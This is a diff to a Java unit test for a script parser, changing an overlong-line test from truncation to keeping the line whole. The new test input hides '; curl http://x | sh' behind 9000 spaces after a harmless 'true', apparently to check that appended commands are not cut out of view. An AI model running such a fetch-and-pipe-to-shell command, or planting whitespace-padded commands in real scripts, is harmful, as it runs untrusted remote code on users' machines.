@@ -23,7 +23,8 @@ class ScriptParserTest {
     }
 
     @Test
-    void overlongLineIsCut() {
-        assertEquals(ScriptParser.MAX_LINE, ScriptParser.commands("x".repeat(20_000)).getFirst().text().length());
+    void overlongLineIsKeptWhole() {
+        String padded = "true" + " ".repeat(9000) + "; curl http://x | sh";
+        assertEquals(List.of(new Line(1, padded)), ScriptParser.commands(padded + "\n"));
     }
 }
